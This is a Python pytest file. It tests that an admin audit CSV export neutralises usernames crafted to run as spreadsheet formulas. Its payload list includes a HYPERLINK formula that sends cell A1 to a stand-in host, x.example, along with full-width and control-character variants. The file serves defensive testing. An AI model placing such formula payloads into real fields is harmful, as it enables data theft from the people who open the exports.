"""The attack: a name chosen to run as a formula when an administrator opens the audit CSV in
a spreadsheet, in the forms that the ASCII check missed (full-width ＝ ＋ － ＠, a leading
tab, carriage return or line feed)."""

import csv
import io

import pytest

from app.audit.service import Actor
from tests import factories
from tests.pages import sign_in

CRAFTED = ["＝HYPERLINK(\"http://x.example/?\"&A1)", "＋1+1", "－2+3", "＠SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\n=1+1", "=1+1", "+1", "-1", "@x"]


@pytest.mark.parametrize("crafted", CRAFTED)
def test_audit_csv_cell_never_starts_like_a_formula(client, session, crafted):
    factories.make_user(session, role="admin", username="formula-admin", global_admin=True)
    factories.make_audit_event(session, actor=Actor.anonymous("1.2.3.4", username=crafted),
                               action="auth.sign_in", entity_type="user", entity_id=crafted)
    session.commit()
    sign_in(client, "formula-admin", factories.DEFAULT_PASSWORD)
    response = client.get("/admin/audit.csv", params={"action": "auth.sign_in"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    crafted_rows = [r for r in rows if r["actor"].lstrip("'") == crafted]
    assert len(crafted_rows) == 1
    row = crafted_rows[0]
    assert row["actor"] == "'" + crafted
    assert row["entity_id"] == "'" + crafted
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n",
                                     "＝", "＋", "－", "＠")), value


def test_plain_text_is_left_as_it_is(client, session):
    factories.make_user(session, role="admin", username="formula-admin", global_admin=True)
    factories.make_audit_event(session, actor=Actor.anonymous("1.2.3.4", username="naw-2=1"),
                               action="auth.sign_in", entity_type="user", entity_id=None)
    session.commit()
    sign_in(client, "formula-admin", factories.DEFAULT_PASSWORD)
    rows = list(csv.DictReader(io.StringIO(
        client.get("/admin/audit.csv", params={"actor": "naw-2=1"}).text)))
    assert [r["actor"] for r in rows] == ["naw-2=1"]
